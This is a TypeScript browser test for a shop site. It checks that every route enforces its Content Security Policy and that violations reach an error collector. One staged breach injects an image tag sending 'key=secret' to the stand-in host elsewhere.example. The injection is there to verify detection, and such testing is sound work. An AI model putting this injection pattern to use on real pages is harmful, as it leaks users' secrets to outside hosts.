import * as z from 'zod/mini';
import { builtPages } from '../scripts/prove/routes';
import { setScene } from '../scripts/prove/scene';
import { compareWithBuild, cookiesOf } from '../scripts/prove/shop-pages';
import { expect, test } from './support/test';

/* The strict policy, on every route, in a browser: what it forbids is told to the shop, and nothing is. */

const collected = z.object({
  items: z.array(
    z.object({
      receivedAt: z.number(),
      data: z.object({
        body: z.object({ trace: z.object({ exception: z.object({ class: z.string(), message: z.string() }) }) }),
        custom: z.optional(z.object({ route: z.string() })),
      }),
    }),
  ),
});

// The browser says so too, of the one breach that is staged.
test.use({
  mayComplain: /policy forbids https:\/\/elsewhere|violates the following Content Security Policy directive/,
});

test('every route keeps its own policy, and what came into a page in some other way is told of', async ({
  browser,
  shop,
  page: stranger,
}) => {
  test.setTimeout(150_000);
  const begun = Date.now();
  const violations = async () => {
    const { items } = collected.parse(await (await fetch(`${shop.standInsUrl}/rollbar/items.json`)).json());
    return items
      .filter(({ receivedAt }) => receivedAt >= begun)
      .flatMap(({ data: { body, custom } }) => {
        const { exception } = body.trace;
        return exception.class === 'PolicyViolated' ? [`${custom?.route ?? ''}: ${exception.message}`] : [];
      });
  };
  // That every page of the build has its example there, the proof `a11y` sees to.
  const { pages } = compareWithBuild(builtPages());
  const scene = await setScene(shop);
  for (const visitor of new Set(pages.map((page) => page.visitor))) {
    const context = await browser.newContext();
    await context.addCookies([...cookiesOf(visitor, scene)]);
    const page = await context.newPage();
    for (const { address } of pages.filter((each) => each.visitor === visitor)) {
      await page.goto(`${shop.url}${await address(scene)}`, { waitUntil: 'load' });
    }
    await context.close();
  }
  // The last one by hand: it shows that the collector would have heard of the others.
  await stranger.goto('/faq');
  await stranger.evaluate(() => {
    document.body.insertAdjacentHTML('beforeend', '<img src="https://elsewhere.example/spy.png?key=secret" alt="">');
  });
  await expect.poll(violations).not.toEqual([]);
  expect(await violations()).toEqual(['/faq: img-src forbade https://elsewhere.example']);
});
